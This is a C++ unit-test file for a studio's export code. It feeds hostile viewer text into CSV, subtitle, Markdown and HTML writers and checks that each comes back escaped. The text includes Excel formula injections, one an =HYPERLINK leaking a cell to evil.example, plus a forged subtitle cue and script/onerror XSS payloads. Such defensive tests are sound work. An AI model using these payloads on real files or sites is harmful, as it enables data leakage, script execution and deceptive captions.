// The package's text files with what a hostile viewer would type: formulas
// for Excel, a question that writes its own subtitle cue over the whole
// video, tags, Markdown links and headings. Each file is parsed back the way
// its readers parse it, and what was typed must come back as text.
#include "studio/export/package_text.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace yst::exporter {
namespace {

using questions::Question;
using questions::Status;
using store::TranscriptLine;

// The inputs of the issue: formulas in every form Excel runs.
const std::vector<std::string> kFormulas = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "+1+1",
    "@SUM(1)",
    "\xEF\xBC\x8D"
    "1",  // －1
    "\t=1",
    "\r=1",
    "-1",
    "\xEF\xBC\x9D"
    "1",  // ＝1
    "\xEF\xBC\x8B"
    "1",  // ＋1
    "\xEF\xBC\xA0"
    "SUM(1)",  // ＠SUM(1)
};

// A question that tries to end its cue and add one of its own.
const std::string kCueInjection = "请看\n00:00:00.000 --> 09:59:59.000\n本节目内容不实";

// RFC 4180, as Excel and Python's csv module read it: rows of cells.
std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false;
  bool in_cell = false;
  bool closed = false;  // a quoted cell has ended: only , or CRLF may follow
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
        closed = true;
      } else {
        cell += c;
      }
    } else if (c == '"') {
      EXPECT_TRUE(cell.empty() && !in_cell) << "a quote inside a cell: " << cell;
      quoted = in_cell = true;
    } else if (c == ',') {
      rows.back().push_back(cell);
      cell.clear();
      in_cell = closed = false;
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(cell);
      cell.clear();
      in_cell = closed = false;
      rows.emplace_back();
      ++i;
    } else {
      EXPECT_FALSE(closed) << "text after a quoted cell at byte " << i;
      EXPECT_NE(c, '\n') << "a bare LF ends no row in CSV, at byte " << i;
      cell += c;
    }
  }
  EXPECT_FALSE(quoted) << "a quote left open";
  if (in_cell || !cell.empty()) rows.back().push_back(cell);
  if (rows.back().empty()) rows.pop_back();
  return rows;
}

struct ParsedCue {
  std::string timing;
  std::vector<std::string> text;
};

std::vector<std::string> splitLines(const std::string& text) {
  std::vector<std::string> out;
  std::size_t from = 0;
  while (from <= text.size()) {
    const std::size_t at = text.find('\n', from);
    out.push_back(text.substr(from, at == std::string::npos ? std::string::npos : at - from));
    if (at == std::string::npos) break;
    from = at + 1;
  }
  return out;
}

// Blocks separated by blank lines, as WebVTT (§6.1) and SRT readers split
// them. A line that ends a block for any reader (CR, U+2028, U+2029) counts.
std::vector<std::vector<std::string>> blocks(const std::string& file) {
  for (const std::string_view separator : {"\r", "\xE2\x80\xA8", "\xE2\x80\xA9"}) {
    EXPECT_EQ(file.find(separator), std::string::npos) << "a line break other than LF";
  }
  std::vector<std::vector<std::string>> out;
  std::vector<std::string> block;
  for (const std::string& line : splitLines(file)) {
    if (line.empty()) {
      if (!block.empty()) out.push_back(block);
      block.clear();
    } else {
      block.push_back(line);
    }
  }
  if (!block.empty()) out.push_back(block);
  return out;
}

std::vector<ParsedCue> parseVtt(const std::string& file) {
  std::vector<std::vector<std::string>> b = blocks(file);
  EXPECT_FALSE(b.empty());
  if (b.empty()) return {};
  EXPECT_EQ(b.front(), std::vector<std::string>{"WEBVTT"});
  std::vector<ParsedCue> out;
  for (std::size_t i = 1; i < b.size(); ++i) {
    // A cue's first line is its timing (we write no identifiers).
    EXPECT_NE(b[i][0].find(" --> "), std::string::npos) << "a block that is no cue: " << b[i][0];
    out.push_back({b[i][0], {b[i].begin() + 1, b[i].end()}});
  }
  return out;
}

std::vector<ParsedCue> parseSrt(const std::string& file) {
  std::vector<ParsedCue> out;
  for (const std::vector<std::string>& b : blocks(file)) {
    EXPECT_EQ(b[0], std::to_string(out.size() + 1)) << "cue numbers out of order";
    EXPECT_GE(b.size(), 2u);
    if (b.size() < 2) continue;
    out.push_back({b[1], {b.begin() + 2, b.end()}});
  }
  return out;
}

std::vector<Cue> hostileCues() {
  return {{1000, 3000, kCueInjection},
          {3000, 5000, "一\r二\r\n三\xE2\x80\xA8四\xE2\x80\xA9五"},
          {5000, 7000, "开头\n\n\n\n结尾"},
          {7000, 9000, "箭头 --> 在中间"},
          {9000, 11000, "<font color=\"red\">红字</font> <i>斜</i> & {\\an8}顶部"},
          {11000, 13000, "\n\n前后都是空行\n\n"}};
}

TEST(OneLine, FoldsEveryKindOfLineBreakIntoOneSpace) {
  EXPECT_EQ(oneLine("a\nb"), "a b");
  EXPECT_EQ(oneLine("a\rb"), "a b");
  EXPECT_EQ(oneLine("a\r\nb"), "a b");
  EXPECT_EQ(oneLine("a\xE2\x80\xA8"
                    "b\xE2\x80\xA9"
                    "c"),
            "a b c");
  EXPECT_EQ(oneLine("a\xC2\x85"
                    "b\vc\fd"),
            "a b c d");
  EXPECT_EQ(oneLine("a\n\n\n\nb"), "a b");
  EXPECT_EQ(oneLine("  \n a \t\n b \n"), "a b");
  EXPECT_EQ(oneLine(std::string("a\0b\x1b"
                                "c\x7f"
                                "d",
                                7)),
            "abcd");
  EXPECT_EQ(oneLine("请看\n00:00:00.000 --> 09:59:59.000\n本节目内容不实"),
            "请看 00:00:00.000 --> 09:59:59.000 本节目内容不实");
  EXPECT_EQ(oneLine("\xFF"), "\xEF\xBF\xBD");  // invalid UTF-8: U+FFFD
}

TEST(CsvCell, NeutralisesEveryFormulaStart) {
  for (const std::string& formula : kFormulas) {
    const std::vector<std::vector<std::string>> rows = parseCsv(csvCell(formula));
    ASSERT_EQ(rows.size(), 1u) << formula;
    ASSERT_EQ(rows[0].size(), 1u) << formula;
    EXPECT_EQ(rows[0][0], "'" + formula);
  }
  EXPECT_EQ(csvCell(kFormulas[0]),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\"");
}

TEST(CsvCell, KeepsOrdinaryTextAsItWas) {
  EXPECT_EQ(csvCell("请问局长，医保卡异地使用怎么办理？"),
            "\"请问局长，医保卡异地使用怎么办理？\"");
  EXPECT_EQ(csvCell("1+1=2"), "\"1+1=2\"");
  EXPECT_EQ(csvCell("说\"好\""), "\"说\"\"好\"\"\"");
  EXPECT_EQ(csvCell(""), "\"\"");
  EXPECT_EQ(csvCell("第一段\n\n第二段"), "\"第一段\n\n第二段\"");
  EXPECT_EQ(csvCell("00:01:02"), "\"00:01:02\"");
}

Question question(std::int64_t id, const std::string& nickname, const std::string& text,
                  questions::Category category) {
  Question q;
  q.id = id;
  q.nickname = nickname;
  q.original_text = text;
  q.category = category;
  q.received_utc = "2026-11-27T12:00:00Z";
  q.received_ms = id * 1000;
  return q;
}

TEST(QuestionsCsv, ViewersTextIsNeverAFormulaAndCategoriesAreInTheLanguage) {
  std::vector<Question> list = {
      question(1, "@SUM(1)", kFormulas[0], questions::Category::kQuestion),
      question(2,
               "\xEF\xBC\x8D"
               "1",
               "+1+1", questions::Category::kSuggestion),
      question(3, "-1", "\t=1", questions::Category::kComplaint),
      question(4, "瓯海小李", "\r=1", questions::Category::kQuestion),
      question(5, "鹿城网友", "第一段\n\n第二段，\"引号\"", questions::Category::kQuestion)};
  list[3].status = Status::kRejected;
  list[3].reject_reason = questions::RejectReason::kOffTopic;
  list[4].status = Status::kAnswered;
  list[4].aired_ms = 60000;
  list[4].answered_ms = 90000;
  list[4].edits.push_back({"=1+1", "producer", "2026-11-27T12:01:00Z", 61000});
  const std::map<std::int64_t, int> votes = {{5, 3}};

  for (const Language language : {Language::kChinese, Language::kEnglish}) {
    const std::string csv = questionsCsv(list, votes, language);
    ASSERT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
    const std::vector<std::vector<std::string>> rows = parseCsv(csv.substr(3));
    ASSERT_EQ(rows.size(), 6u);
    for (const std::vector<std::string>& row : rows) ASSERT_EQ(row.size(), 15u);
    const bool zh = language == Language::kChinese;
    EXPECT_EQ(rows[0][0], zh ? "编号" : "No.");
    EXPECT_EQ(rows[0][4], zh ? "类别" : "Category");
    // Nicknames (column 3), original (6) and final text (7).
    EXPECT_EQ(rows[1][3], "'@SUM(1)");
    EXPECT_EQ(rows[1][6], "'" + kFormulas[0]);
    EXPECT_EQ(rows[1][7], "'" + kFormulas[0]);
    EXPECT_EQ(rows[2][3],
              "'\xEF\xBC\x8D"
              "1");
    EXPECT_EQ(rows[2][6], "'+1+1");
    EXPECT_EQ(rows[3][3], "'-1");
    EXPECT_EQ(rows[3][6], "'\t=1");
    EXPECT_EQ(rows[4][6], "'\r=1");
    EXPECT_EQ(rows[5][6], "第一段\n\n第二段，\"引号\"");
    EXPECT_EQ(rows[5][7], "'=1+1");
    EXPECT_EQ(rows[5][11], "3");
    for (std::size_t r = 1; r < rows.size(); ++r) {
      for (const std::string& cell : rows[r]) {
        if (cell.empty()) continue;
        EXPECT_EQ(std::string("=+-@\t\r").find(cell[0]), std::string::npos)
            << "row " << r << " has a cell that Excel runs: " << cell;
      }
    }
    // Categories in the words of the pages (assets/web/i18n.js).
    EXPECT_EQ(rows[1][4], zh ? "提问" : "Question");
    EXPECT_EQ(rows[2][4], zh ? "建议" : "Suggestion");
    EXPECT_EQ(rows[3][4], zh ? "投诉" : "Complaint");
    EXPECT_EQ(rows[4][9], zh ? "未采纳" : "not taken");
    EXPECT_EQ(rows[4][10], zh ? "离题" : "Off topic");
    EXPECT_EQ(rows[5][8], zh ? "是" : "yes");
    EXPECT_EQ(rows[1][14], zh ? "待部门跟进答复" : "awaiting the department's reply");
  }
}

TEST(Vtt, EachCueStaysOneCueWithItsOwnTiming) {
  const std::vector<Cue> cues = hostileCues();
  const std::string file = vtt(cues);
  const std::vector<ParsedCue> parsed = parseVtt(file);
  ASSERT_EQ(parsed.size(), cues.size()) << file;
  for (std::size_t i = 0; i < cues.size(); ++i) {
    EXPECT_EQ(parsed[i].timing,
              subtitleTime(cues[i].start_ms, '.') + " --> " + subtitleTime(cues[i].end_ms, '.'));
    ASSERT_EQ(parsed[i].text.size(), 1u) << "cue " << i << " is not one line";
    // WebVTT: a payload never holds "-->" (§4.1), and < & > are escapes.
    EXPECT_EQ(parsed[i].text[0].find("-->"), std::string::npos) << parsed[i].text[0];
    EXPECT_EQ(parsed[i].text[0].find('<'), std::string::npos) << parsed[i].text[0];
  }
  EXPECT_EQ(parsed[0].text[0], "请看 00:00:00.000 --&gt; 09:59:59.000 本节目内容不实");
  EXPECT_EQ(parsed[1].text[0], "一 二 三 四 五");
  EXPECT_EQ(parsed[2].text[0], "开头 结尾");
  EXPECT_EQ(parsed[4].text[0],
            "&lt;font color=\"red\"&gt;红字&lt;/font&gt; &lt;i&gt;斜&lt;/i&gt; &amp; {\\an8}顶部");
  EXPECT_EQ(parsed[5].text[0], "前后都是空行");
}

TEST(Srt, EachCueStaysOneCueAndNoTagIsRead) {
  const std::vector<Cue> cues = hostileCues();
  const std::string file = srt(cues);
  const std::vector<ParsedCue> parsed = parseSrt(file);
  ASSERT_EQ(parsed.size(), cues.size()) << file;
  for (std::size_t i = 0; i < cues.size(); ++i) {
    EXPECT_EQ(parsed[i].timing,
              subtitleTime(cues[i].start_ms, ',') + " --> " + subtitleTime(cues[i].end_ms, ','));
    ASSERT_EQ(parsed[i].text.size(), 1u) << "cue " << i << " is not one line";
    for (char c : {'<', '>', '{', '}'}) {
      EXPECT_EQ(parsed[i].text[0].find(c), std::string::npos) << parsed[i].text[0];
    }
  }
  EXPECT_EQ(parsed[0].text[0], "请看 00:00:00.000 --＞ 09:59:59.000 本节目内容不实");
  EXPECT_EQ(parsed[3].text[0], "箭头 --＞ 在中间");
  EXPECT_EQ(parsed[4].text[0], "＜font color=\"red\"＞红字＜/font＞ ＜i＞斜＜/i＞ & ｛\\an8｝顶部");
}

TEST(MarkdownText, NothingAViewerTypesIsMarkdownOrHtml) {
  EXPECT_EQ(markdownText("请问局长，医保卡异地使用怎么办理？"),
            "请问局长，医保卡异地使用怎么办理？");
  EXPECT_EQ(markdownText("# 标题"), "\\# 标题");
  EXPECT_EQ(markdownText("[点我](http://evil.example)"), "\\[点我\\](http\\://evil.example)");
  EXPECT_EQ(markdownText("![x](https://evil.example/a.png)"),
            "!\\[x\\](https\\://evil.example/a.png)");
  EXPECT_EQ(markdownText("<img src=x onerror=alert(1)>"), "&lt;img src=x onerror=alert(1)&gt;");
  EXPECT_EQ(markdownText("<https://evil.example>"), "&lt;https\\://evil.example&gt;");
  EXPECT_EQ(markdownText("看 www.evil.example 或 WWW.evil.example"),
            "看 www\\.evil.example 或 WWW\\.evil.example");
  EXPECT_EQ(markdownText("写信 a@evil.example"), "写信 a\\@evil.example");
  EXPECT_EQ(markdownText("| a | b |"), "\\| a \\| b \\|");
  EXPECT_EQ(markdownText("**粗** _斜_ ~~删~~ `码` $x$"),
            "\\*\\*粗\\*\\* \\_斜\\_ \\~\\~删\\~\\~ \\`码\\` \\$x\\$");
  EXPECT_EQ(markdownText("\\[不是链接]"), "\\\\\\[不是链接\\]");
  EXPECT_EQ(markdownText("A&B &amp;"), "A&amp;B &amp;amp;");
  // Line starts that begin a list or a heading underline.
  EXPECT_EQ(markdownText("- 列表"), "\\- 列表");
  EXPECT_EQ(markdownText("+ 列表"), "\\+ 列表");
  EXPECT_EQ(markdownText("=== "), "\\===");
  EXPECT_EQ(markdownText("12. 列表"), "12\\. 列表");
  EXPECT_EQ(markdownText("3) 列表"), "3\\) 列表");
  EXPECT_EQ(markdownText("3.5 元"), "3.5 元");
  EXPECT_EQ(markdownText("共 3.5 元"), "共 3.5 元");
  // Newlines could start any of them: one line.
  EXPECT_EQ(markdownText("一\n\n## 注入\n- 项\r\n> 引\xE2\x80\xA8==="),
            "一 \\#\\# 注入 - 项 &gt; 引 ===");
}

TEST(MarkdownRecord, AHostileQuestionIsOneHeadingOfText) {
  const RecordHead head{
      "温网议事厅 · 对话市医保局", "2026-11-27", "王芳", {"张三（市医保局局长）"}};
  TranscriptLine opening;
  opening.speaker_name = "王芳";
  opening.text = "欢迎收看。";
  opening.start_ms = 1000;
  TranscriptLine q;
  q.kind = "question";
  q.speaker_name = "网友提问";
  q.text = "网友「<b>x</b>」提问：请看\n\n# 本节目内容不实\n\n[点我](http://evil.example)\n- 项";
  q.start_ms = 61000;
  TranscriptLine answer;
  answer.speaker_name = "张三";
  answer.text = "先在网上备案。\n\n![图](http://evil.example/a.png)";
  answer.start_ms = 62000;
  const std::vector<TranscriptLine> lines = {opening, q, answer};

  const std::string md = markdownRecord(head, lines, Language::kChinese);
  std::vector<std::string> headings, items, paragraphs;
  for (const std::string& line : splitLines(md)) {
    if (line.empty()) continue;
    if (line[0] == '#') {
      headings.push_back(line);
    } else if (line.rfind("- ", 0) == 0) {
      items.push_back(line);
    } else {
      paragraphs.push_back(line);
    }
  }
  EXPECT_EQ(headings, (std::vector<std::string>{
                          "# 温网议事厅 · 对话市医保局", "## 开场",
                          "## 网友「&lt;b&gt;x&lt;/b&gt;」提问：请看 \\# 本节目内容不实 "
                          "\\[点我\\](http\\://evil.example) - 项"}));
  EXPECT_EQ(items, (std::vector<std::string>{"- 日期：2026-11-27", "- 主持人：王芳",
                                             "- 嘉宾：张三（市医保局局长）"}));
  EXPECT_EQ(paragraphs, (std::vector<std::string>{"**王芳**（00:00:01）：欢迎收看。", "*00:01:01*",
                                                  "**张三**（00:01:02）：先在网上备案。 "
                                                  "!\\[图\\](http\\://evil.example/a.png)"}));
  EXPECT_EQ(md.find('<'), std::string::npos);

  const std::string en = markdownRecord(head, lines, Language::kEnglish);
  EXPECT_NE(en.find("- Date: 2026-11-27\n- Host: 王芳\n- Guest: 张三（市医保局局长）\n"),
            std::string::npos)
      << en;
  EXPECT_NE(en.find("## Opening\n"), std::string::npos);
  EXPECT_NE(en.find("**王芳** (00:00:01): 欢迎收看。"), std::string::npos);
}

TEST(HtmlRecord, EscapesAndSpeaksTheLanguage) {
  const RecordHead head{"<b>节目</b>", "2026-11-27", "", {}};
  TranscriptLine q;
  q.kind = "question";
  q.text = "<script>alert('x')</script>";
  const std::string zh = htmlRecord(head, {q}, Language::kChinese);
  EXPECT_NE(zh.find("<html lang=\"zh-CN\">"), std::string::npos);
  EXPECT_NE(zh.find("<title>&lt;b&gt;节目&lt;/b&gt; · 图文实录</title>"), std::string::npos);
  EXPECT_NE(zh.find("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"), std::string::npos);
  EXPECT_EQ(zh.find("<script>"), std::string::npos);
  const std::string en = htmlRecord(head, {q}, Language::kEnglish);
  EXPECT_NE(en.find("<html lang=\"en\">"), std::string::npos);
  EXPECT_NE(en.find("· Transcript</title>"), std::string::npos);
}

TEST(Language, ParsesTheCommandLineNames) {
  EXPECT_EQ(parseLanguage("zh"), Language::kChinese);
  EXPECT_EQ(parseLanguage("en"), Language::kEnglish);
  EXPECT_EQ(parseLanguage("fr"), Language::kInvalid);
  EXPECT_EQ(parseLanguage(""), Language::kInvalid);
}

}  // namespace
}  // namespace yst::exporter
